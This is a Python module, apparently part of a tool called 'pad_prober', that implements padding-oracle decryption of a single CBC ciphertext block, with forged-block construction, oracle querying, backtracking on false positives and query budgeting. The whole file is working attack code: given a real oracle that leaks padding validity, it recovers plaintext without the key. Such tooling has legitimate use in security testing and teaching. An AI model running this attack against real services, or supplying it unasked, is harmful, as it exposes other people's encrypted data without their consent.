"""Single block decryption through a padding oracle.

For a target block C_n and the block before it C_n-1 (or the IV), the
plaintext byte at position j is found by forging a previous block C' so
that the oracle sees a pad of length k = N - j:

    C'[i] = C_n-1[i] ^ P[i] ^ k    for every discovered i > j
    C'[j] = C_n-1[j] ^ g ^ k       for the guess g

The oracle accepts C' || C_n when g == P[j], or by accident when the block
already ends in some longer valid padding. Accidents are undone by
backtracking: when no guess fits at position j, the byte discovered at
j + 1 is popped and its search resumes at the next candidate.
"""
from __future__ import annotations

from dataclasses import dataclass
import warnings
from typing import List, Optional, Sequence

import structlog

from pad_prober.candidates import text_candidates
from pad_prober.errors import (
    ByteUnrecoverable,
    FailureReason,
    MalformedCiphertext,
    OracleUnreachableWarning,
)
from pad_prober.oracle import OracleVerdict, PaddingOracle
from pad_prober.progress import ProgressTracker

log = structlog.get_logger(__name__)


@dataclass
class BlockStats:
    queries: int = 0
    accepted: int = 0
    rejected: int = 0
    unreachable: int = 0
    backtracks: int = 0


def max_queries_without_backtracking(candidates: Sequence[int], block_size: int) -> int:
    """Upper bound on queries for a block whose search never backtracks."""
    return len(candidates) * block_size


def forge_block(prev_block: bytes, discovered: Sequence[int], guess: int) -> bytearray:
    """Build C' for the next undiscovered position.

    `discovered` holds plaintext bytes last byte first.
    """
    block_size = len(prev_block)
    pad = len(discovered) + 1
    index = block_size - pad

    forged = bytearray(prev_block)
    for i in range(index + 1, block_size):
        forged[i] ^= discovered[block_size - 1 - i] ^ pad
    forged[index] ^= guess ^ pad
    return forged


class BlockDecryptor:
    """Recovers one plaintext block with the oracle's help."""

    def __init__(
        self,
        oracle: PaddingOracle,
        *,
        block_size: int = 16,
        candidates: Optional[Sequence[int]] = None,
        max_queries: Optional[int] = None,
        unreachable_warn_threshold: int = 10,
        observer: Optional[ProgressTracker] = None,
    ):
        self.oracle = oracle
        self.block_size = block_size
        self.candidates = tuple(candidates) if candidates is not None else text_candidates(block_size)
        self.max_queries = max_queries
        self.unreachable_warn_threshold = unreachable_warn_threshold
        self.observer = observer

    def decrypt(self, prev_block: bytes, target_block: bytes, *, block_index: int = 1) -> bytes:
        plaintext, _ = self.decrypt_with_stats(prev_block, target_block, block_index=block_index)
        return plaintext

    def decrypt_with_stats(
        self, prev_block: bytes, target_block: bytes, *, block_index: int = 1
    ) -> tuple[bytes, BlockStats]:
        if len(prev_block) != self.block_size or len(target_block) != self.block_size:
            raise MalformedCiphertext(
                f"Blocks must be {self.block_size} bytes, got {len(prev_block)} and {len(target_block)}"
            )
        search = _BlockSearch(self, bytes(prev_block), bytes(target_block), block_index)
        plaintext = search.run()
        if self.observer is not None:
            self.observer.solved(block_index, plaintext)
        return plaintext, search.stats


class _BlockSearch:
    """State of one block decryption: discovered stack plus guess cursor."""

    def __init__(self, decryptor: BlockDecryptor, prev_block: bytes, target_block: bytes, block_index: int):
        self.decryptor = decryptor
        self.prev_block = prev_block
        self.target_block = target_block
        self.block_index = block_index
        self.discovered: List[int] = []
        self.cursor = 0
        self.stats = BlockStats()
        self.unreachable_streak = 0
        self.log = log.bind(block=block_index)

    @property
    def byte_index(self) -> int:
        return self.decryptor.block_size - len(self.discovered) - 1

    def run(self) -> bytes:
        block_size = self.decryptor.block_size
        while len(self.discovered) < block_size:
            guess = self._discover_next_byte()
            if guess is not None:
                self._push(guess)
            else:
                self._backtrack()

        plaintext = bytes(reversed(self.discovered))
        self.log.info("block solved", queries=self.stats.queries, backtracks=self.stats.backtracks)
        return plaintext

    def _discover_next_byte(self) -> Optional[int]:
        """Try candidates from the cursor on. Returns the accepted guess or None."""
        candidates = self.decryptor.candidates
        pad = len(self.discovered) + 1
        for position in range(self.cursor, len(candidates)):
            guess = candidates[position]
            forged = forge_block(self.prev_block, self.discovered, guess)
            if self._ask(bytes(forged) + self.target_block, forged, guess, pad):
                self.cursor = position
                return guess
        return None

    def _ask(self, candidate: bytes, forged: bytearray, guess: int, pad: int) -> bool:
        decryptor = self.decryptor
        if decryptor.max_queries is not None and self.stats.queries >= decryptor.max_queries:
            raise self._failure(FailureReason.BUDGET)

        verdict = decryptor.oracle.verdict(candidate)
        self.stats.queries += 1
        if decryptor.observer is not None:
            decryptor.observer.probe(
                self.block_index, self.byte_index, guess, pad, bytes(forged), self.discovered
            )

        if verdict is OracleVerdict.UNREACHABLE:
            self.stats.unreachable += 1
            self.unreachable_streak += 1
            if self.unreachable_streak == decryptor.unreachable_warn_threshold:
                self.log.warning("oracle not answering", consecutive=self.unreachable_streak)
                warnings.warn(
                    f"{self.unreachable_streak} consecutive oracle queries went unanswered "
                    f"while decrypting block {self.block_index}",
                    OracleUnreachableWarning,
                    stacklevel=2,
                )
        else:
            self.unreachable_streak = 0

        if verdict.accepted:
            self.stats.accepted += 1
            return True
        self.stats.rejected += 1
        return False

    def _push(self, guess: int) -> None:
        self.log.debug("byte discovered", byte_index=self.byte_index, value=guess, char=chr(guess))
        self.discovered.append(guess)
        self.cursor = 0

    def _backtrack(self) -> None:
        """Treat the last discovery as a false positive and resume past it."""
        if not self.discovered:
            raise self._failure(self._exhausted_reason())
        popped = self.discovered.pop()
        self.cursor = self.decryptor.candidates.index(popped) + 1
        self.stats.backtracks += 1
        self.log.debug("backtrack", byte_index=self.byte_index, popped=popped)

    def _exhausted_reason(self) -> FailureReason:
        if self.unreachable_streak >= self.decryptor.unreachable_warn_threshold:
            return FailureReason.NO_RESPONSE
        return FailureReason.EXHAUSTED

    def _failure(self, reason: FailureReason) -> ByteUnrecoverable:
        error = ByteUnrecoverable(
            block_index=self.block_index,
            byte_index=self.byte_index,
            reason=reason,
            candidate_count=len(self.decryptor.candidates),
            queries=self.stats.queries,
            stats=self.stats,
        )
        self.log.error("block unrecoverable", byte_index=self.byte_index, reason=str(reason),
                       queries=self.stats.queries)
        return error
